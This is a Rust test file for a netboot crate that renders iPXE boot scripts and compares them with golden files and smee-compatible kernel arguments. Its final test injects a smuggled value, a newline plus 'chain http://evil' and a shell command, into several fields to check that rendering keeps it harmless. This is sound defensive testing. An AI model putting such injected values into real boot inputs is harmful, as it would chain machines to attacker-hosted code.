//! Compares scripts with the goldens; `UPDATE=1 cargo nextest run --package netboot` rewrites them.

use golden::check;

use super::{HOOK_ARGS, autoexec, command_line, render, unknown_machine};
use crate::{AgentBoot, Boot, Plan};

fn plan(boot: Boot) -> Plan {
    let mac = "52:54:00:77:00:01".parse().unwrap();
    Plan { mac, hardware: "default/nuc-1".to_owned(), addresses: Vec::new(), boot }
}

fn agent() -> AgentBoot {
    AgentBoot {
        base_url: "http://10.77.0.1:7080/agent".to_owned(),
        kernel: "vmlinuz-x86_64".to_owned(),
        initrd: "initramfs-x86_64".to_owned(),
        facility: "onprem".to_owned(),
        syslog_host: Some("10.77.0.1".to_owned()),
        grpc_authority: "10.77.0.1:42113".to_owned(),
        worker_id: "52:54:00:77:00:01".to_owned(),
        consoles: vec!["tty0".to_owned(), "ttyS0,115200".to_owned()],
        args: vec!["tinbox.token=00ff".to_owned()],
        ..AgentBoot::default()
    }
}

#[test]
fn scripts_are_as_recorded() {
    check("agent.ipxe", &render(&plan(Boot::Agent(agent()))));
    check("local-disk.ipxe", &render(&plan(Boot::LocalDisk)));
    let url = "http://boot.example/menu.ipxe".to_owned();
    check("chain.ipxe", &render(&plan(Boot::Chain { url })));
    check("disk-loader.ipxe", &render(&plan(Boot::DiskLoader)));
    check("autoexec.ipxe", &autoexec("http://10.77.0.1:7080", None));
    let mac = Some("52:54:00:77:00:01".parse().unwrap());
    check("autoexec-known.ipxe", &autoexec("http://10.77.0.1:7080", mac));
}

#[test]
fn hook_and_captain_boot_as_from_smee() {
    let mut args = HOOK_ARGS.map(str::to_owned).to_vec();
    args.push("tink_worker_image=10.77.0.1:5000/tink-worker:v0.10.0".to_owned());
    let hook = AgentBoot {
        vlan_id: Some("7".to_owned()),
        consoles: vec!["tty0".to_owned(), "ttyS1,115200".to_owned()],
        args,
        ..agent()
    };
    let line = command_line(plan(Boot::LocalDisk).mac, &hook).join(" ");
    assert_eq!(
        line,
        "vlan_id=7 facility=onprem syslog_host=10.77.0.1 grpc_authority=10.77.0.1:42113 \
         tinkerbell_tls=false tinkerbell_insecure_tls=false worker_id=52:54:00:77:00:01 \
         hw_addr=52:54:00:77:00:01 modules=loop,squashfs,sd-mod,usb-storage intel_iommu=on \
         iommu=pt initrd=initramfs-x86_64 console=tty0 console=ttyS1,115200 \
         tink_worker_image=10.77.0.1:5000/tink-worker:v0.10.0"
    );
    check("hook.ipxe", &render(&plan(Boot::Agent(hook))));
    let captain = AgentBoot {
        kernel: "vmlinuz-6.18.16-x86_64".to_owned(),
        initrd: "initramfs-6.18.16-x86_64".to_owned(),
        syslog_host: Some("log.rack.example".to_owned()),
        facility: "onprem console=ttyS1,115200".to_owned(),
        ..agent()
    };
    check("captain.ipxe", &render(&plan(Boot::Agent(captain))));
}

#[test]
fn a_stranger_says_itself_who_it_is() {
    let boot = AgentBoot {
        kernel: "vmlinuz-${arch}".to_owned(),
        initrd: "initramfs-${arch}".to_owned(),
        args: HOOK_ARGS[1..].iter().map(|arg| (*arg).to_owned()).collect(),
        ..agent()
    };
    let script = unknown_machine(&boot);
    for absent in ["facility=", "vlan_id=", "tinkerbell_insecure_tls=", "52:54"] {
        assert!(!script.contains(absent), "{absent} in {script}");
    }
    check("unknown-machine.ipxe", &script);
}

#[test]
fn arguments_stand_in_the_order_that_smee_has() {
    let boot = AgentBoot { vlan_id: Some("7".to_owned()), tls: true, ..agent() };
    let line = super::command_line(plan(Boot::LocalDisk).mac, &boot);
    let names: Vec<&str> = line.iter().map(|arg| arg.split('=').next().unwrap()).collect();
    assert_eq!(
        names,
        [
            "vlan_id",
            "facility",
            "syslog_host",
            "grpc_authority",
            "tinkerbell_tls",
            "tinkerbell_insecure_tls",
            "worker_id",
            "hw_addr",
            "initrd",
            "console",
            "console",
            "tinbox.token"
        ]
    );
    assert!(line.contains(&"tinkerbell_tls=true".to_owned()));
}

#[test]
fn an_operators_script_is_sent_as_written() {
    let contents = "#!ipxe\nshell\n".to_owned();
    assert_eq!(render(&plan(Boot::Script { contents: contents.clone() })), contents);
    assert_eq!(render(&plan(Boot::Script { contents: "shell\n".to_owned() })), contents);
}

#[test]
fn no_field_can_add_a_line_or_a_command() {
    let evil = "x\nchain http://evil && y || z ; shell";
    let boot = AgentBoot {
        base_url: evil.to_owned(),
        kernel: evil.to_owned(),
        worker_id: evil.to_owned(),
        args: vec![evil.to_owned(), "\n".to_owned(), "a b".to_owned()],
        ..agent()
    };
    let usual = render(&plan(Boot::Agent(agent())));
    let text = render(&plan(Boot::Agent(boot)));
    assert_eq!(text.lines().count(), usual.lines().count());
    let kernel = text.lines().find(|line| line.starts_with("kernel ")).unwrap();
    let ends = ["&&", "||", ";"];
    let commands = kernel.split(' ').filter(|word| ends.contains(word)).count();
    assert_eq!(commands, 2, "{kernel}");
    assert!(kernel.contains(" x chain http://evil y z shell a b "), "{kernel}");
    let url = "http://a/\nshell".to_owned();
    assert_eq!(render(&plan(Boot::Chain { url })).lines().count(), 4);
}
